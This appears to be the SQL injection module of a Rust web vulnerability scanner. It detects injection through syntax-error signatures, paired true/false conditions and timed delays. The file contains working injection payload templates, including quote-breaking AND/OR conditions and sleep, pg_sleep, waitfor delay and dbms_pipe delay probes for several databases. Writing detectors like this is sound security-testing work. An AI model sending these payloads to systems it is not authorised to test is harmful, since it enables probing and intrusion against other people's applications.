//! SQL injection: by the database's error, by conditions, by delays.
//!
//! An error counts when it comes with unbalanced quotes or brackets and goes with balanced ones; a condition
//! when two true ones are answered alike, two false ones are, and one of each pair is SQL alone; a delay when
//! it follows what it was told for several lengths. Statements are only ever widened (`or`) where nothing
//! speaks for a change of data.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, canary, error_follows_balance, may_widen, nothing_afterwards};
use crate::web::trial::{Proof, Stop, Trial, Verdict};

pub(crate) const TEST: Test = Test {
    name: "sql",
    of: Of::Input,
    budget: 60,
    judge,
    afterwards: nothing_afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    if let Some(dialect) = error_follows_balance(trial, ERRORS, BALANCE)? {
        return Ok(Some(proof(Confidence::Certain, ShownBy::SyntaxError, dialect)));
    }
    if let Some(shape) = by_condition(trial)? {
        return Ok(Some(proof(Confidence::Firm, ShownBy::TrueAndFalse, shape)));
    }
    for (dialect, spell) in DELAYS {
        if trial.delays(|seconds| spell(trial.value(), seconds))? {
            return Ok(Some(proof(Confidence::Firm, ShownBy::Delay, dialect)));
        }
    }
    Ok(None)
}

fn proof(confidence: Confidence, shown_by: ShownBy, detail: &'static str) -> Proof {
    Proof {
        type_: FindingType::WebSqlInjection,
        confidence,
        shown_by,
        detail,
    }
}

fn by_condition(trial: &Trial<'_>) -> Result<Option<&'static str>, Stop> {
    if !trial.is_stable() {
        return Ok(None);
    }
    let (value, base) = (trial.value(), trial.base_view());
    let number = value.parse::<f64>().is_ok();
    if trial.view(&canary(trial))? != base {
        for shape in NARROWING.iter().filter(|shape| shape.fits.holds(number)) {
            let spell = |condition: &str| (shape.spell)(value, condition);
            if trial.view(&spell(TRUE))? == base && follows(trial, &spell)? {
                return Ok(Some(shape.name));
            }
        }
    }
    if may_widen(trial) {
        for shape in WIDENING.iter().filter(|shape| shape.fits.holds(number)) {
            if follows(trial, &|condition: &str| (shape.spell)(value, condition))? {
                return Ok(Some(shape.name));
            }
        }
    }
    Ok(None)
}

/// Whether the answer follows conditions, those that are SQL alone too.
fn follows(trial: &Trial<'_>, spell: &dyn Fn(&str) -> String) -> Result<bool, Stop> {
    let [yes, no, sql_yes, sql_no] = [TRUE, FALSE, "(select 23)=23", "(select 23)=24"].map(spell);
    trial.parts([&yes, &sql_yes], [&no, &sql_no])
}

const TRUE: &str = "17=17";
const FALSE: &str = "17=18";

/// How a condition is put into a statement.
struct Shape {
    name: &'static str,
    fits: Fits,
    spell: fn(&str, &str) -> String,
}

/// Which values a shape is for.
#[derive(Debug, Clone, Copy)]
enum Fits {
    Any,
    Numbers,
    Words,
}

impl Fits {
    fn holds(self, number: bool) -> bool {
        match self {
            Self::Any => true,
            Self::Numbers => number,
            Self::Words => !number,
        }
    }
}

/// True: as if nothing were there.
const NARROWING: &[Shape] = &[
    Shape {
        name: "number",
        fits: Fits::Numbers,
        spell: |value, condition| format!("{value}*(case when {condition} then 1 else 0 end)"),
    },
    Shape {
        name: "string",
        fits: Fits::Any,
        spell: |value, condition| format!("{value}' and {condition} and 'k'='k"),
    },
    Shape {
        name: "concatenation",
        fits: Fits::Any,
        spell: |value, condition| format!("{value}'||(case when {condition} then '' else 'k' end)||'"),
    },
    Shape {
        name: "pattern",
        fits: Fits::Words,
        spell: |value, condition| format!("{value}%' and {condition} and 'k' like 'k"),
    },
    Shape {
        name: "argument",
        fits: Fits::Words,
        spell: |value, condition| format!("{value}') and {condition} and ('k')=('k"),
    },
    Shape {
        name: "double quotes",
        fits: Fits::Any,
        spell: |value, condition| format!("{value}\" and {condition} and \"k\"=\"k"),
    },
    Shape {
        name: "expression",
        fits: Fits::Words,
        spell: |value, condition| format!("(case when {condition} then {value} else null end)"),
    },
];

/// True: as if everything were asked for.
const WIDENING: &[Shape] = &[
    Shape {
        name: "string, widened",
        fits: Fits::Any,
        spell: |value, condition| format!("{value}' or {condition} or 'k'='j"),
    },
    Shape {
        name: "argument, widened",
        fits: Fits::Words,
        spell: |value, condition| format!("{value}') or {condition} or ('k')=('j"),
    },
    Shape {
        name: "number, widened",
        fits: Fits::Numbers,
        spell: |value, condition| format!("{value} or {condition}"),
    },
];

/// How a database is told to wait.
type Spell = fn(&str, u32) -> String;

/// Each reads as an expression where a number stands, and inside of quotes: the comment hides one form from
/// the other.
const DELAYS: &[(&str, Spell)] = &[
    ("MySQL", |_, seconds| {
        let wait = format!("(select 0 from (select sleep({seconds}))k)");
        format!("{wait}/*'+{wait}+'\"+{wait}+\"*/")
    }),
    ("PostgreSQL", |_, seconds| {
        let wait = |zero: &str| format!("(select {zero} from pg_sleep({seconds}))");
        format!("{}/*'||{}||'*/", wait("0"), wait("'0'"))
    }),
    ("SQL Server", |value, seconds| {
        format!("{value};waitfor delay '0:0:{seconds}'--")
    }),
    ("SQL Server", |value, seconds| {
        format!("{value}';waitfor delay '0:0:{seconds}'--")
    }),
    ("Oracle", |_, seconds| {
        let wait = format!("dbms_pipe.receive_message(chr(107),{seconds})");
        format!("{wait}/*'||{wait}||'*/")
    }),
];

/// Before and behind the value, unbalanced; before and behind it, balanced.
const BALANCE: &[(&str, &str, &str, &str)] =
    &[("", "'", "", "''"), ("(", "", "(", ")"), ("", "\"", "", "\"\"")];

/// Errors about syntax alone: an error about a value is also what a sound application may show.
const ERRORS: &[(&str, &[&str])] = &[
    ("MySQL", &["You have an error in your SQL syntax"]),
    ("MySQL", &["SQLSTATE[42000]", "1064"]),
    ("PostgreSQL", &["syntax error at or near"]),
    ("PostgreSQL", &["syntax error at end of input"]),
    ("PostgreSQL", &["unterminated quoted"]),
    ("SQLite", &["near \"", "\": syntax error"]),
    ("SQLite", &["unrecognized token:"]),
    ("SQLite", &["incomplete input"]),
    (
        "SQL Server",
        &["Unclosed quotation mark after the character string"],
    ),
    ("SQL Server", &["Incorrect syntax near"]),
    ("Oracle", &["ORA-01756"]),
    ("Oracle", &["ORA-00933"]),
    ("Oracle", &["ORA-00907"]),
    ("Oracle", &["ORA-00936"]),
    ("Oracle", &["ORA-00920"]),
    ("DB2", &["SQLCODE=-104"]),
    ("DB2", &["SQL0104N"]),
    ("SQL", &["java.sql.SQLSyntaxErrorException"]),
    ("SQL", &["SQLSTATE[42601]"]),
];
